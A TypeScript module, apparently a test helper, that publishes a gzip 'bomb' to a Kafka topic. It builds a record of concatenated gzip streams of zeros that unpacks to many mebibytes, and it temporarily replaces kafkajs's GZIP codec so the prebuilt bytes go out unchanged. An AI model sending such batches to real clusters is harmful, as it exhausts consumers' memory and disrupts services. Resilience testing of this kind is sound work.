import { gzipSync } from 'node:zlib';
import kafkajs, { Kafka, logLevel } from 'kafkajs';

const { CompressionCodecs, CompressionTypes } = kafkajs;
const MIB = 1_048_576;

/** The record that a produced batch unpacks to, with a value of so many MiB of zeros, as gzip streams that follow each other. */
function packedRecord(key: string, mebibytes: number): Buffer {
  const valueLength = mebibytes * MIB;
  const head = Buffer.concat([Buffer.from([0]), varint(0), varint(0), varint(key.length), Buffer.from(key), varint(valueLength)]);
  const headersCount = varint(0);
  const length = head.length + valueLength + headersCount.length;
  const zeros = gzipSync(Buffer.alloc(MIB));
  return Buffer.concat([
    gzipSync(Buffer.concat([varint(length), head])),
    ...Array.from({ length: mebibytes }, () => zeros),
    gzipSync(headersCount),
  ]);
}

/** Zigzag, as Kafka's records have it; beyond 32 bits it is never needed here. */
function varint(value: number): Buffer {
  const bytes: number[] = [];
  let rest = value * 2;
  while (rest > 127) {
    bytes.push((rest % 128) | 128);
    rest = Math.floor(rest / 128);
  }
  return Buffer.from([...bytes, rest]);
}

/** Publishes one batch of about a KiB for each MiB that it unpacks to. Returns where it lies. */
export async function putGzipBomb(
  brokers: readonly string[],
  { topic, key, mebibytes }: { readonly topic: string; readonly key: string; readonly mebibytes: number },
): Promise<{ readonly partition: number; readonly offset: string }> {
  const producer = new Kafka({ clientId: 'careless-service', brokers: [...brokers], logLevel: logLevel.NOTHING }).producer();
  const codec = CompressionCodecs[CompressionTypes.GZIP];
  const packed = packedRecord(key, mebibytes);
  // kafkajs would need the whole record in memory, three times. It asks its codecs by number, so that one can lie to it.
  CompressionCodecs[CompressionTypes.GZIP] = () => ({
    compress: () => Promise.resolve(packed),
    decompress: () => Promise.reject(new Error('not read here')),
  });
  try {
    await producer.connect();
    const [meta] = await producer.send({ topic, messages: [{ key, value: 'x' }], compression: CompressionTypes.GZIP, acks: -1 });
    return { partition: meta?.partition ?? 0, offset: meta?.baseOffset ?? '' };
  } finally {
    CompressionCodecs[CompressionTypes.GZIP] = codec;
    await producer.disconnect();
  }
}
